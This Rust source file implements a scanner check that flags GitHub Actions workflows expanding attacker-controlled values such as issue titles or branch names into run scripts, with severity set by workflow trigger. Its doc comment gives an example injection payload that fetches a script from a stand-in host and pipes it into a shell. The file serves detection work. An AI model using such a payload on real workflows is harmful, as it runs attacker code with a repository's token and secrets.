//! `gha-template-injection`: attacker-controlled expressions expanded into code.
//!
//! **What**: `${{ github.event.issue.title }}`, `${{ github.head_ref }}` and other values an
//! outside contributor controls, written directly into a `run:` script or an
//! `actions/github-script` `script:`.
//! **Why**: Actions substitutes the text before the shell runs, so a crafted title or branch name
//! (`"; curl evil | sh; "`) becomes code running with the workflow's token and secrets.
//! **Example**: `run: echo "${{ github.event.pull_request.title }}"`.
//! **Fix**: pass the value through an environment variable and quote it:
//! `env: TITLE: ${{ github.event.pull_request.title }}` then `run: echo "$TITLE"`.
//!
//! An environment variable the workflow sets from such a context (`env: { TITLE: ${{
//! github.event.issue.title }} }`) is the same injection when expanded with `${{ env.TITLE }}`.
//! Values of unknown origin — other `env.*` (low), step/job outputs and inputs (informational, low
//! confidence) — are reported too: they are attacker data whenever an earlier step put it there.
//! So is `matrix.*` (medium, medium confidence) where the job's matrix is not written out in the
//! workflow: `matrix: ${{ fromJSON(needs.plan.outputs.matrix) }}`, or a matrix key whose values
//! are expressions.
//!
//! Severity follows the triggers: critical in workflows on privileged events
//! (`pull_request_target`, `workflow_run`, `issue_comment`, `issues`, discussions, reviews),
//! medium when only `pull_request`/`push`-style events run it (forks get a read-only token and
//! no secrets there), high otherwise.

use super::{expression, Check, Node, Workflow};
use crate::misconfig::CheckMeta;
use ferret_core::{Confidence, Finding, Severity};

pub struct TemplateInjection;

static META: CheckMeta = CheckMeta {
    id: "gha-template-injection",
    doc: include_str!("template_injection.rs"),
    title: "Template injection in a workflow script",
    format: "GitHub Actions",
    severity: Severity::High,
    confidence: Confidence::High,
};

/// Context paths an external contributor controls.
pub const CONTROLLED: &[&str] = &[
    "github.head_ref",
    "github.event.issue.title",
    "github.event.issue.body",
    "github.event.pull_request.title",
    "github.event.pull_request.body",
    "github.event.pull_request.head.ref",
    "github.event.pull_request.head.label",
    "github.event.pull_request.head.repo.default_branch",
    "github.event.comment.body",
    "github.event.review.body",
    "github.event.review_comment.body",
    "github.event.discussion.title",
    "github.event.discussion.body",
    "github.event.head_commit.message",
    "github.event.head_commit.author.email",
    "github.event.head_commit.author.name",
    "github.event.workflow_run.head_branch",
    "github.event.workflow_run.head_commit.message",
    "github.event.workflow_run.head_commit.author.email",
    "github.event.workflow_run.head_commit.author.name",
    "github.event.workflow_run.display_title",
    "github.event.pages",
    "github.event.commits",
];

/// An expression without whitespace, with `['key']` indexing rewritten as `.key`, so
/// `github['event']['issue']['title']` reads as `github.event.issue.title`.
fn normalize(expression: &str) -> String {
    let compact: String = expression.chars().filter(|c| !c.is_whitespace()).collect();
    compact.replace("['", ".").replace("']", "")
}

/// Every `${{ … }}` in `text`: its byte range and the context paths whose text it can yield.
/// Constant expressions (`${{ format('{0}', 'x') }}`) and booleans (`contains(…)`,
/// comparisons) yield none; an expression the parser does not read is taken whole.
fn expansions(text: &str) -> Vec<(usize, usize, Vec<String>)> {
    expression::fenced(text)
        .into_iter()
        .map(|(start, end, inner)| {
            let sources = match expression::parse(inner) {
                Some(expr) if expression::fold(&expr).is_some() => Vec::new(),
                Some(expr) => expression::text_sources(&expr)
                    .into_iter()
                    .map(str::to_string)
                    .collect(),
                None => normalize(inner)
                    .split(|c: char| !(c.is_alphanumeric() || "._-*".contains(c)))
                    .filter(|word| word.contains('.'))
                    .map(str::to_string)
                    .collect(),
            };
            (start, end, sources)
        })
        .collect()
}

/// The attacker-controlled context `source` reads, if any: the path itself or a field under it
/// (`github.event.commits.*.message` is under `github.event.commits`).
fn controlled(source: &str) -> Option<&'static str> {
    CONTROLLED.iter().copied().find(|c| {
        source
            .strip_prefix(c)
            .is_some_and(|rest| rest.is_empty() || rest.starts_with('.'))
    })
}

/// The first attacker-controlled context expanded by a `${{ }}` in `text`.
pub fn controlled_context(text: &str) -> Option<&'static str> {
    expansions(text)
        .iter()
        .flat_map(|(_, _, sources)| sources)
        .find_map(|source| controlled(source))
}

/// Values the workflow passes on without knowing their origin: environment variables (low),
/// step and job outputs and inputs (informational). They carry attacker data whenever an
/// earlier step put it there, which the expression alone does not show.
fn indirect(source: &str, static_env: &[String]) -> Option<Severity> {
    if let Some(name) = source.strip_prefix("env.") {
        return (!static_env.iter().any(|s| s == name)).then_some(Severity::Low);
    }
    let output = |scope: &str| source.starts_with(scope) && source.contains(".outputs.");
    (output("steps.")
        || output("needs.")
        || source.starts_with("inputs.")
        || source.starts_with("github.event.inputs."))
    .then_some(Severity::Info)
}

/// The `env:` entries of the workflow, its jobs and its steps.
fn env_entries(workflow: &Workflow) -> Vec<(&str, &str)> {
    let mut blocks = Vec::new();
    if let Some(root) = &workflow.root {
        blocks.extend(root.get("env"));
    }
    for (_, job) in workflow.jobs() {
        blocks.extend(job.get("env"));
    }
    for step in workflow.steps() {
        blocks.extend(step.node.get("env"));
    }
    let mut entries = Vec::new();
    for block in blocks {
        if let crate::misconfig::yaml_tree::Value::Map(map) = &block.value {
            entries.extend(
                map.iter()
                    .filter_map(|(key, value)| Some((key.as_str()?, value.as_str()?))),
            );
        }
    }
    entries
}

/// Environment variables the workflow itself sets to a literal (in a workflow, job or step
/// `env:`), which hold no outside data.
fn static_env(workflow: &Workflow) -> Vec<String> {
    env_entries(workflow)
        .into_iter()
        .filter(|(_, value)| !value.contains("${{"))
        .map(|(name, _)| name.to_string())
        .collect()
}

/// Environment variables set from an attacker-controlled context (`TITLE: ${{
/// github.event.issue.title }}`), with that context: `${{ env.TITLE }}` in a script is the same
/// injection as the context itself.
fn controlled_env(workflow: &Workflow) -> Vec<(String, &'static str)> {
    env_entries(workflow)
        .into_iter()
        .filter_map(|(name, value)| Some((name.to_string(), controlled_context(value)?)))
        .collect()
}

/// Severity by trigger: privileged events (write token and secrets on outsiders' data) are
/// critical; workflows only on `pull_request`/`push`-style events (read-only token for forks)
/// are medium; anything else keeps the default.
fn severity_for(workflow: &Workflow) -> Severity {
    let triggers = workflow.triggers();
    if workflow.privileged() {
        Severity::Critical
    } else if !triggers.is_empty()
        && triggers.iter().all(|t| {
            matches!(
                t.as_str(),
                "pull_request" | "push" | "merge_group" | "workflow_dispatch" | "schedule"
            )
        })
    {
        Severity::Medium
    } else {
        META.severity
    }
}

/// For each job, its first line and whether a `matrix.<key>` there may hold outside data.
struct Matrices<'a> {
    jobs: Vec<(u32, Option<&'a Node>)>,
}

impl<'a> Matrices<'a> {
    fn of(workflow: &'a Workflow) -> Matrices<'a> {
        let mut jobs: Vec<(u32, Option<&Node>)> = workflow
            .jobs()
            .into_iter()
            .map(|(key, job)| (key.pos.line, job.path(&["strategy", "matrix"])))
            .collect();
        jobs.sort_by_key(|(line, _)| *line);
        Matrices { jobs }
    }

    /// Whether `matrix.<key>` expanded at `line` comes from a matrix not written out.
    fn dynamic(&self, line: u32, key: &str) -> bool {
        let Some((_, Some(matrix))) = self.jobs.iter().rev().find(|(start, _)| *start <= line)
        else {
            return false;
        };
        let expression = |node: &Node| node.as_str().is_some_and(|v| v.contains("${{"));
        if expression(matrix) {
            return true;
        }
        let from_include = matrix
            .get("include")
            .map(Node::items)
            .unwrap_or(&[])
            .iter()
            .filter_map(|entry| entry.get(key));
        let values = matrix.get(key).into_iter().chain(from_include);
        values
            .flat_map(|v| std::iter::once(v).chain(v.items()))
            .any(expression)
            || matrix.get("include").is_some_and(expression)
    }
}

impl Check<Workflow> for TemplateInjection {
    fn meta(&self) -> &'static CheckMeta {
        &META
    }

    fn run(&self, path: &str, workflow: &Workflow, findings: &mut Vec<Finding>) {
        let severity = severity_for(workflow);
        let static_env = static_env(workflow);
        let controlled_env = controlled_env(workflow);
        let through_env = |source: &str| {
            let name = source.strip_prefix("env.")?;
            controlled_env
                .iter()
                .find(|(n, _)| n == name)
                .map(|(_, context)| *context)
        };
        let matrices = Matrices::of(workflow);
        let mut indirect_line = None;
        for code in &workflow.code {
            let text = &code.line.text;
            for (start, end, sources) in expansions(text) {
                let expression = &text[start..end];
                let column = text[..start].chars().count() as u32 + 1;
                let mut report = |label: &str, severity, confidence| {
                    let mut finding =
                        META.finding(path, code.line.number, column, expression, label);
                    finding.snippet = text.trim().chars().take(160).collect();
                    finding.severity = severity;
                    finding.confidence = confidence;
                    findings.push(finding);
                };
                let context = sources
                    .iter()
                    .find_map(|s| controlled(s).or_else(|| through_env(s)));
                if let Some(context) = context {
                    report(context, severity, Confidence::High);
                } else if sources.iter().any(|s| {
                    s.strip_prefix("matrix.")
                        .is_some_and(|key| matrices.dynamic(code.line.number, key))
                }) {
                    report(&normalize(expression), Severity::Medium, Confidence::Medium);
                } else if let (Some(lower), false) = (
                    sources.iter().find_map(|s| indirect(s, &static_env)),
                    // One low-signal finding per line is enough to look at it.
                    indirect_line == Some(code.line.number),
                ) {
                    indirect_line = Some(code.line.number);
                    report(&normalize(expression), lower, Confidence::Low);
                }
            }
        }
    }
}
